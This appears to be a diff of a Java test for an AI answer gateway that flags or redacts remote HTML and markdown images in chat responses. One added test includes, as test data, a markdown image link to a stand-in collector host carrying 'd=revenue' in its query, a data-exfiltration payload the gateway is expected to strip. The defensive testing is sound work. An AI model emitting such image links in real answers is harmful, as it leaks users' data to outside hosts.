@@ -124,7 +124,8 @@ class AnswerGatewayTest {
             byte[] buf = new byte[8192];
             for (int n; (n = in.read(buf)) > 0; ) {
                 got.append(new String(buf, 0, n, StandardCharsets.UTF_8));
-                if (!early && !StreamedAnswerTest.content(got.toString()).isEmpty() && !upstreamEnded.get()) early = true;
+                int events = got.lastIndexOf("\n\n") + 2; // a read may end inside an event
+                if (!early && events > 1 && !StreamedAnswerTest.content(got.substring(0, events)).isEmpty() && !upstreamEnded.get()) early = true;
             }
         }
         return new Streamed(r.statusCode(), got.toString(), early);
@@ -259,14 +260,38 @@ class AnswerGatewayTest {
     /** HTML in answers is mostly code a chat app escapes: by default a fetching tag is recorded, the answer left whole. */
     @Test
     void htmlThatFetchesIsFlaggedNotRewrittenByDefault() throws Exception {
-        String code = "Add this to your page:\n```html\n<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script>\n"
-                + "<img src=\"https://cdn.example.net/logo.png\" alt=\"logo\">\n```";
+        String code = "Add this to your page: <script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script> and "
+                + "<img src=\"https://cdn.example.net/logo.png\" alt=\"logo\">";
         answerWhole(code);
         HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("how do I add chart.js?", false));
         assertThat(r.statusCode()).isEqualTo(200);
         assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content")).isEqualTo(code);
         assertThat(gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow()))
                 .contains("\"guard_answer\":{\"action\":\"flag\",\"entities\":{\"REMOTE_HTML\":2}");
+    }
+
+    /** Markup written as an example in a fenced block or a code span renders as text: it passes whole, streamed or not. */
+    @Test
+    void markupInCodeIsLeftAloneAndMarkupAfterItIsNot() throws Exception {
+        String example = "To add a chart to your README:\n```markdown\n![chart](https://collector.example.net/c.png)\n"
+                + "<img src=\"https://collector.example.net/p.gif\">\n```\nor inline: `![chart](https://collector.example.net/c.png)`.\n";
+        String after = "Here it is: ![chart](https://collector.example.net/?d=revenue)";
+        answerWhole(example + after);
+        HttpResponse<String> r = gw.postJson("/v1/chat/completions", key, chat("how do I add a chart?", false));
+        assertThat(r.statusCode()).isEqualTo(200);
+        assertThat(new JsonObject(r.body()).getJsonArray("choices").getJsonObject(0).getJsonObject("message").getString("content"))
+                .isEqualTo(example + "Here it is: [REMOTE_IMAGE]");
+        assertThat(gw.accessLine(r.headers().firstValue("X-Request-Id").orElseThrow())).contains("\"REMOTE_IMAGE\":1").doesNotContain("REMOTE_HTML");
+
+        // streamed in small pieces: the block is held while it is open, then goes out whole; the image after it does not
+        List<String> pieces = new java.util.ArrayList<>();
+        String all = example + after;
+        for (int i = 0; i < all.length(); i += 7) pieces.add(all.substring(i, Math.min(all.length(), i + 7)));
+        AtomicBoolean ended = new AtomicBoolean();
+        answerStreamed(pieces, 2, ended);
+        Streamed st = stream("/v1/chat/completions", chat("how do I add a chart?", true), ended);
+        assertThat(StreamedAnswerTest.content(st.body())).isEqualTo(example + "Here it is: [REMOTE_IMAGE]");
+        assertThat(st.body()).doesNotContain("revenue");
     }
 
     @Test
